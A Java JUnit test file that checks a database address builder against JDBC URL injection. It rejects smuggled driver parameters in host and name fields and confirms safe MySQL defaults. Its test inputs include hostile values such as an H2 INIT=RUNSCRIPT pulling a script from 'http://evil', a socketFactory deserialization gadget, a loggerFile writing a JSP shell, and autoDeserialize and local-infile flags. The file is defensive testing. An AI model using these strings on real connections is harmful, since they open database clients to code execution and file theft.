package cockpit.core.database;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import cockpit.core.database.DatabaseAddress.Tls;
import cockpit.spi.Settings;
import cockpit.spi.Text;
import cockpit.spi.source.DatabaseSettings;
import cockpit.spi.source.Fault;
import cockpit.spi.source.SourceFault;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What other products' addresses were broken into with, again and again. */
@DisplayName("A database's address")
class DatabaseAddressTest {

    /** Everything that a driver may ever be given; whoever adds a name says here why it is harmless. */
    private static final Set<String> HARMLESS = Set.of(
            "user",
            "password",
            "connectTimeout",
            "socketTimeout",
            "loginTimeout",
            "readOnlyMode",
            "ApplicationName",
            "applicationName",
            "applicationIntent",
            "responseBuffering",
            "sslmode",
            "sslMode",
            "sslfactory",
            "allowLocalInfile",
            "allowMultiQueries",
            "tinyInt1isBit",
            "yearIsDateType",
            "connectionTimeZone",
            "forceConnectionTimeZoneToSession",
            "preserveInstants",
            "serverName",
            "portNumber",
            "databaseName",
            "encrypt",
            "trustServerCertificate",
            "oracle.net.CONNECT_TIMEOUT",
            "oracle.jdbc.ReadTimeout",
            "oracle.net.ssl_server_dn_match",
            "oracle.jdbc.timezoneAsRegion",
            "connection_timeout",
            "socket_timeout");

    private static final Map<String, String> GOOD = Map.of(
            "database-kind", "postgresql",
            "database-host", "erp.example.com",
            "database-name", "erp",
            "database-user", "reader",
            "database-password", "p;a&s?s=w#o/rd");

    private static Settings settings(Map<String, String> changes) {
        Map<String, String> values = new HashMap<>(GOOD);
        values.putAll(changes);
        return Settings.of(DatabaseSettings.ALL, values);
    }

    private static SourceFault refusal(Map<String, String> changes) {
        return catchThrowableOfType(SourceFault.class, () -> DatabaseAddress.of(settings(changes)));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "h2",
                "hsqldb",
                "derby",
                "sqlite",
                "duckdb",
                "db2",
                "mysql8",
                "jdbc",
                "PostgreSQL",
                "postgresql ;x"
            })
    @DisplayName("has no other products than those on the list")
    void no_other_products(String kind) {
        assertThat(Product.of(kind)).isEmpty();
        Map<String, String> values = new HashMap<>(GOOD);
        values.put("database-kind", kind);
        assertThat(Settings.check(Text.same("x"), DatabaseSettings.ALL, values).problems())
                .singleElement()
                .satisfies(problem -> assertThat(problem.sentence().en()).contains("must be one of"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "db?allowLoadLocalInfile=true",
                "db/x?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
                "db:5432/x?loggerLevel=TRACE&loggerFile=/tmp/shell.jsp",
                "db#",
                "db;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "db&autoDeserialize=true",
                "address=(host=evil)(port=3306)(autoDeserialize=true)",
                "(host=evil,allowLoadLocalInfile=true)",
                "evil@db",
                "db,evil",
                "db\\evil",
                "//db",
                "db%3fa=b",
                "db evil",
                "-db",
                "db\nevil",
                "[::1]:1/x",
                "{db}",
                "ldap://evil/x"
            })
    @DisplayName("takes no host that carries more than a host")
    void a_host_is_a_host(String host) {
        SourceFault fault = refusal(Map.of("database-host", host));
        assertThat(fault.fault()).isEqualTo(Fault.SETTINGS);
        assertThat(fault.sentence().en()).contains("database-host").doesNotContain("evil");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "erp?autoDeserialize=true",
                "erp&allowUrlInLocalInfile=true",
                "erp;trustServerCertificate=true",
                "erp/../x",
                "erp#x",
                "erp%3Fx=y",
                "mem:test;INIT=x",
                "erp x",
                "(SERVICE_NAME=x)",
                ""
            })
    @DisplayName("takes no database name that carries more than a name")
    void a_name_is_a_name(String name) {
        assertThat(refusal(Map.of("database-name", name)).fault()).isEqualTo(Fault.SETTINGS);
    }

    @ParameterizedTest
    @ValueSource(strings = {"0", "-1", "65536", "99999999999"})
    @DisplayName("takes no port that is none")
    void a_port_is_a_port(String port) {
        assertThat(refusal(Map.of("database-port", port)).fault()).isEqualTo(Fault.SETTINGS);
    }

    @ParameterizedTest
    @EnumSource(Product.class)
    @DisplayName("is made of its parts, and no parameter stands in it")
    void made_of_parts(Product product) throws Exception {
        for (Tls tls : Tls.values()) {
            DatabaseAddress address = DatabaseAddress.of(settings(Map.of(
                    "database-kind",
                    product.name().toLowerCase(java.util.Locale.ROOT),
                    "database-tls",
                    tls.name().toLowerCase(java.util.Locale.ROOT))));
            String text = product.address(address);
            assertThat(text).startsWith("jdbc:").doesNotContain("?", ";", "&", "reader", "p;a");
            assertThat(product.properties(address).stringPropertyNames()).isSubsetOf(HARMLESS);
            assertThat(product.properties(address)).containsEntry("password", "p;a&s?s=w#o/rd");
            assertThat(address.toString()).doesNotContain("p;a");
        }
    }

    @ParameterizedTest
    @EnumSource(Product.class)
    @DisplayName("leads to a driver that is there")
    void the_driver_is_there(Product product) throws Exception {
        java.sql.Driver driver = Class.forName(product.driver())
                .asSubclass(java.sql.Driver.class)
                .getDeclaredConstructor()
                .newInstance();
        DatabaseAddress address = DatabaseAddress.of(
                settings(Map.of("database-kind", product.name().toLowerCase(java.util.Locale.ROOT))));
        assertThat(driver.acceptsURL(product.address(address))).isTrue();
    }

    @Test
    @DisplayName("switches off what a hostile MySQL server could ask of its client")
    void no_local_files() throws Exception {
        DatabaseAddress address = DatabaseAddress.of(settings(Map.of("database-kind", "mysql")));
        assertThat(Product.MYSQL.properties(address))
                .containsEntry("allowLocalInfile", "false")
                .containsEntry("allowMultiQueries", "false")
                .containsEntry("sslMode", "verify-full");
    }

    @Test
    @DisplayName("may be an IP address of either version")
    void ip_addresses() throws Exception {
        DatabaseAddress address = DatabaseAddress.of(settings(Map.of("database-host", "fd00::12")));
        assertThat(Product.POSTGRESQL.address(address)).isEqualTo("jdbc:postgresql://[fd00::12]:5432/erp");
        assertThat(DatabaseAddress.of(settings(Map.of("database-host", "10.0.0.8")))
                        .hostInAddress())
                .isEqualTo("10.0.0.8");
    }

    @Test
    @DisplayName("verifies the certificate unless somebody chose otherwise")
    void verifies_by_default() throws Exception {
        assertThat(DatabaseAddress.of(settings(Map.of())).tls()).isEqualTo(Tls.VERIFY);
    }

    @Test
    @DisplayName("has the product's usual port")
    void usual_ports() throws Exception {
        assertThat(DatabaseAddress.of(settings(Map.of("database-kind", "clickhouse")))
                        .port())
                .isEqualTo(8443);
        assertThat(DatabaseAddress.of(settings(Map.of("database-kind", "clickhouse", "database-tls", "off")))
                        .port())
                .isEqualTo(8123);
        assertThat(Optional.of(DatabaseAddress.of(settings(Map.of())).port())).contains(5432);
        assertThat(List.of(Product.values())).hasSize(5);
    }
}
